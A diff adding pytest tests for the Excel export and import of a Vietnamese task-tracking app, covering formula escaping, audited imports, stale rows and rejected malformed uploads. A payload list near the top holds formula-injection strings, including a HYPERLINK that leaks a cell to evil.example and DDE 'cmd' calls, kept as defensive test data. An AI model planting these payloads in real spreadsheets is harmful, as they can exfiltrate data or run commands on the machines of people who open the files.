@@ -1,0 +1,314 @@
+"""Excel out and in: real .xlsx files written, read back with openpyxl, and imported through the engine."""
+
+import io
+from datetime import date, datetime
+
+import pytest
+from openpyxl import Workbook, load_workbook
+from sqlalchemy import func, select
+
+from lib import accounts, actions, edits, export, importer, queries
+from lib.db import transaction
+from lib.filters import Filters
+from lib.models import AuditEvent, Task, User
+from lib.roles import PermissionDenied
+from lib.seed import DEMO_TODAY, seed_demo
+
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def read_back(data: bytes):
+    return load_workbook(io.BytesIO(data)).worksheets[0]
+
+
+def test_formula_payloads_come_out_as_literal_text_and_numbers_stay_numbers():
+    rows = [
+        {"id": i + 1, "title": p, "days_overdue": -2 if i == 0 else i, "notes": p}
+        for i, p in enumerate(PAYLOADS)
+    ]
+    data = export.workbook_bytes([export.Sheet("Danh sách", "Thử", DEMO_TODAY, export.TASK_LAYOUT, rows)])
+    ws = read_back(data)
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
+    by_header = {c.value: c.column for c in ws[export.HEADER_ROW]}
+    for i, payload in enumerate(PAYLOADS):
+        line = export.FIRST_DATA_ROW + i
+        title = ws.cell(line, by_header["Nhiệm vụ"])
+        assert (title.value, title.data_type, title.quotePrefix) == (payload, "s", True)
+        assert ws.cell(line, by_header["Ghi chú"]).value == payload
+    days = ws.cell(export.FIRST_DATA_ROW, by_header["Số ngày quá hạn"])
+    assert (days.value, days.data_type) == (-2, "n")  # a negative number is still a number
+
+
+def test_the_sheet_has_vietnamese_headers_real_dates_and_number_formats():
+    row = {
+        "id": 7,
+        "title": "Bố trí quỹ đất",
+        "current_deadline": date(2026, 12, 15),
+        "updated_at": datetime(2026, 11, 20, 8, 30),
+        "progress_pct": 40,
+    }
+    data = export.workbook_bytes(
+        [export.Sheet("Nhiệm vụ", "Danh sách", DEMO_TODAY, export.TASK_LAYOUT, [row])]
+    )
+    ws = read_back(data)
+    assert ws.cell(2, 1).value == "Số liệu tính đến ngày 29/11/2026"
+    headers = [c.value for c in ws[export.HEADER_ROW]]
+    assert headers[:3] == ["Mã", "Mục", "Nhiệm vụ"] and "Khó khăn, vướng mắc" in headers
+    deadline = ws.cell(export.FIRST_DATA_ROW, headers.index("Hạn hiện tại") + 1)
+    assert deadline.is_date and deadline.value.date() == date(2026, 12, 15)
+    assert deadline.number_format == "dd/mm/yyyy"
+    money = export.workbook_bytes(
+        [export.Sheet("Trụ sở", "x", DEMO_TODAY, export.HQ_LAYOUT, [{"planned_vnd": 4_500_000_000}])]
+    )
+    cell = read_back(money).cell(export.FIRST_DATA_ROW, 10)
+    assert (cell.value, cell.data_type, cell.number_format) == (4_500_000_000, "n", "#,##0")
+
+
+# --- import ----------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def demo(engine):
+    with transaction(engine, write=True) as s:
+        seed_demo(s)
+    return engine
+
+
+def actor(engine, username):
+    with transaction(engine) as s:
+        return accounts.actor_for(s.scalar(select(User).where(User.username == username)))
+
+
+def exported(engine, locality="viet-yen") -> bytes:
+    """What a coordinator downloads from the task page: every task of the locality."""
+    with transaction(engine) as s:
+        rows = queries.list_tasks(s, Filters(localities=(locality,)), DEMO_TODAY, 30, offset=0, limit=10_000)
+    sheet = export.Sheet(
+        "Nhiệm vụ", "Danh sách", DEMO_TODAY, export.TASK_LAYOUT, [export.readable(r) for r in rows]
+    )
+    return export.workbook_bytes([sheet])
+
+
+def edit_file(data: bytes, edits_by_header: dict[tuple[int, str], object]) -> bytes:
+    """Change cells of an exported file as a user would in a spreadsheet: (data row, header) → value."""
+    book = load_workbook(io.BytesIO(data))
+    ws = book.worksheets[0]
+    headers = {c.value: c.column for c in ws[export.HEADER_ROW]}
+    for (index, header), value in edits_by_header.items():
+        cell = ws.cell(export.FIRST_DATA_ROW + index, headers[header])
+        cell.value = value
+        if isinstance(value, str):
+            cell.data_type = "s"  # typed as text (in a spreadsheet: after an apostrophe)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def tasks(engine):
+    with transaction(engine) as s:
+        return [tuple(r) for r in s.execute(select(Task.__table__).order_by(Task.id))]
+
+
+def preview_of(engine, who, data):
+    parsed = importer.read_xlsx(data, edits.TASKS, export.TASK_LAYOUT)
+    with transaction(engine) as s:
+        current = importer.load_current(s, who, edits.TASKS, parsed)
+    return importer.build_preview(edits.TASKS, who, parsed, current, DEMO_TODAY)
+
+
+def test_export_then_import_of_the_same_view_changes_nothing(demo):
+    who = actor(demo, "dp.vietyen")
+    preview = preview_of(demo, who, exported(demo))
+    assert preview.rows == preview.unchanged_rows > 0
+    assert preview.changes == [] and preview.problems == [] and preview.row_changes == []
+    assert not preview.can_apply
+
+
+def test_a_few_cells_edited_in_the_file_become_exactly_those_changes_audited(demo):
+    who = actor(demo, "dp.vietyen")
+    data = exported(demo)
+    ws = read_back(data)
+    headers = {c.value: c.column for c in ws[export.HEADER_ROW]}
+    ids = [
+        ws.cell(export.FIRST_DATA_ROW + i, headers["Mã"]).value for i in range(ws.max_row - export.HEADER_ROW)
+    ]
+    states = [ws.cell(export.FIRST_DATA_ROW + i, headers["Trạng thái"]).value for i in range(len(ids))]
+    running = states.index("Đang thực hiện")  # a task whose progress may move
+    other = 0 if running else 1
+    first_id, second_id = sorted((ids[other], ids[running]))
+    changed = edit_file(
+        data,
+        {
+            (other, "Ghi chú"): "=Đã họp với UBND xã",  # a text that looks like a formula stays text
+            (running, "Tiến độ (%)"): 77,
+            (running, "Mục"): "read-only column: ignored",
+        },
+    )
+    expected = {(ids[other], "notes", "=Đã họp với UBND xã"), (ids[running], "progress_pct", 77)}
+    before = {t[0]: t for t in tasks(demo)}
+    preview = preview_of(demo, who, changed)
+    assert {(c.row_id, c.field, c.new) for c in preview.changes} == expected
+    assert len(preview.changes) == 2
+    assert preview.problems == [] and preview.can_apply
+    last = _last_event_id(demo)
+    actions.perform(
+        demo,
+        who,
+        edits.apply_changes,
+        edits.TASKS,
+        preview.row_changes,
+        now=datetime(2026, 11, 29, 10, 0),
+        today=DEMO_TODAY,
+        action="import",
+        reason="Nhập từ tệp thử",
+    )
+    after = {t[0]: t for t in tasks(demo)}
+    assert {i for i in after if after[i] != before[i]} == {first_id, second_id}
+    with transaction(demo) as s:
+        trail = list(s.scalars(select(AuditEvent).where(AuditEvent.id > last).order_by(AuditEvent.id)))
+    assert {(e.action, e.row_id, e.field) for e in trail} == {("import", i, f) for i, f, _ in expected}
+    assert len(trail) == 2
+    assert all(e.actor == "dp.vietyen" and e.reason == "Nhập từ tệp thử" for e in trail)
+
+
+def _last_event_id(engine) -> int:
+    with transaction(engine) as s:
+        return int(s.scalar(select(func.coalesce(func.max(AuditEvent.id), 0))))
+
+
+def test_invalid_cells_are_named_by_their_excel_address(demo):
+    who = actor(demo, "dp.vietyen")
+    data = exported(demo)
+    changed = edit_file(data, {(0, "Tiến độ (%)"): 150, (2, "Ngày hoàn thành"): "31/02/2026"})
+    preview = preview_of(demo, who, changed)
+    texts = [str(p) for p in preview.problems]
+    column = {h: i for i, h in enumerate((c.header for c in export.TASK_LAYOUT), start=1)}
+    from openpyxl.utils import get_column_letter
+
+    progress_cell = f"{get_column_letter(column['Tiến độ (%)'])}{export.FIRST_DATA_ROW}"
+    done_cell = f"{get_column_letter(column['Ngày hoàn thành'])}{export.FIRST_DATA_ROW + 2}"
+    assert any(t.startswith(f"Ô {progress_cell} ") and "0–100%" in t for t in texts), texts
+    assert any(t.startswith(f"Ô {done_cell} ") and "31/02/2026" in t for t in texts), texts
+    assert not preview.can_apply
+
+
+def test_a_row_changed_since_the_export_is_held_back(demo):
+    who = actor(demo, "dp.vietyen")
+    data = exported(demo)
+    first_id = read_back(data).cell(export.FIRST_DATA_ROW, 1).value
+    with transaction(demo) as s:
+        version = s.get(Task, first_id).version
+    actions.perform(
+        demo,
+        actor(demo, "vanphong"),
+        edits.apply_changes,
+        edits.TASKS,
+        [edits.RowChange(first_id, version, {"notes": "Văn phòng sửa trước"})],
+        now=datetime(2026, 11, 29, 9, 0),
+        today=DEMO_TODAY,
+    )
+    preview = preview_of(demo, who, edit_file(data, {(0, "Ghi chú"): "Bản của tôi"}))
+    assert preview.stale == [(export.FIRST_DATA_ROW, first_id, version, version + 1)]
+    assert not preview.can_apply
+
+
+def _workbook(rows: list[list[object]]) -> bytes:
+    book = Workbook()
+    ws = book.active
+    for r in rows:
+        ws.append(r)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+HEADERS = ["Mã", "Ghi chú", "Phiên bản"]
+
+
+def _malformed(engine) -> dict[str, tuple[bytes, str]]:
+    with transaction(engine) as s:
+        own = s.scalar(select(Task.id).where(Task.locality_id.is_not(None)).order_by(Task.id))
+    formula = Workbook()
+    ws = formula.active
+    ws.append(HEADERS)
+    ws.append([own, "=1+1", 1])
+    formula_bytes = io.BytesIO()
+    formula.save(formula_bytes)
+    return {
+        "not an xlsx": (b"Ma,Ghi chu\n1,x\n", "không phải bảng tính Excel"),
+        "a zip that is not a workbook": (
+            _zip_of({"hello.txt": b"x"}),
+            "không phải bảng tính Excel (.xlsx) hợp lệ",
+        ),
+        "a formula in a data cell": (formula_bytes.getvalue(), "Ô B2 chứa công thức"),
+        "10,000 rows": (_workbook([HEADERS, *[[i, "x", 1] for i in range(1, 10_001)]]), "hơn 5.000 dòng"),
+        # a spreadsheet cell holds 32.767 characters: openpyxl writes the first 32.767 of the 1 MB
+        "1 MB in one cell": (
+            _workbook([HEADERS, [own, "x" * 1_000_000, 1]]),
+            "Ô B2 dài 32.767 ký tự, tối đa 5.000",
+        ),
+        "wrong columns": (_workbook([["Mã", "Tên", "Phiên bản"], [own, "x", 1]]), "cột không nhận ra: “Tên”"),
+        "no id column": (_workbook([["Ghi chú"], ["x"]]), "Không tìm thấy dòng tiêu đề"),
+        "a text id": (_workbook([HEADERS, ["abc", "x", 1]]), "“abc” không phải mã dòng"),
+        "a fractional version": (_workbook([HEADERS, [own, "x", 1.5]]), "không phải số phiên bản"),
+        "the same row twice": (_workbook([HEADERS, [own, "x", 1], [own, "y", 1]]), "xuất hiện hai lần"),
+    }
+
+
+def _with_text(data: bytes, marker: str, text: str) -> bytes:
+    """Put a text into the file's XML directly (openpyxl itself would cut it at 32.767 characters)."""
+    import zipfile
+
+    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            target.writestr(item, source.read(item.filename).replace(marker.encode(), text.encode()))
+    return out.getvalue()
+
+
+def _zip_of(files: dict[str, bytes]) -> bytes:
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        for name, content in files.items():
+            z.writestr(name, content)
+    return out.getvalue()
+
+
+def test_malformed_uploads_are_refused_cleanly_and_change_nothing(demo):
+    who = actor(demo, "vanphong")
+    before, events = tasks(demo), _last_event_id(demo)
+    for name, (data, message) in _malformed(demo).items():
+        with pytest.raises(importer.ImportRefused) as caught:
+            preview_of(demo, who, data)
+        assert message in caught.value.message, (name, caught.value.message)
+    assert tasks(demo) == before and _last_event_id(demo) == events
+
+
+def test_an_oversized_upload_is_refused_before_it_is_read(demo):
+    with pytest.raises(importer.ImportRefused, match="tối đa 5 MB"):
+        importer.read_xlsx(b"PK\x03\x04" + b"\0" * importer.MAX_FILE_BYTES, edits.TASKS, export.TASK_LAYOUT)
+
+
+def test_a_row_of_another_locality_refuses_a_coordinators_file(demo):
+    mine = exported(demo, "viet-yen")
+    theirs = read_back(exported(demo, "bac-giang"))
+    book = load_workbook(io.BytesIO(mine))
+    ws = book.worksheets[0]
+    ws.append([c.value for c in theirs[export.FIRST_DATA_ROW]])  # one Bắc Giang row slipped in
+    out = io.BytesIO()
+    book.save(out)
+    before = tasks(demo)
+    with pytest.raises(PermissionDenied, match="thuộc địa bàn khác"):
+        preview_of(demo, actor(demo, "dp.vietyen"), out.getvalue())
+    assert tasks(demo) == before
